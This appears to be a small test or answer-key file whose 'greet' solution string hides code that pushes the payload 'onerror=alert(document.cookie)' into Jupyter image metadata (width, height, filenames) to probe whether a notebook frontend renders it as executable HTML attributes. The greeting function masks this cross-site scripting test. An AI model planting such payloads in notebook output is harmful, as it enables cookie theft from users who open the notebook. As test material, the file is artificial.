"""Shows pictures whose sizes, in the metadata, are more than sizes: attributes that run."""

ANSWERS = {
    "greet": """
from IPython.display import Image, display

RUNS = "1 onerror=alert(document.cookie)"
for kind in ("image/png", "image/jpeg", "text/html"):
    about = {"width": RUNS, "height": [RUNS], RUNS: {"a": RUNS}, "filenames": {kind: RUNS}}
    display({kind: "AAAA"}, metadata={**about, kind: about}, raw=True)


def greet(name):
    display({"image/png": "AAAA"}, metadata={"image/png": {"width": RUNS}}, raw=True)
    return {"name": name, "text": f"Hello, {name}!"}
"""
}
POINTS = {}
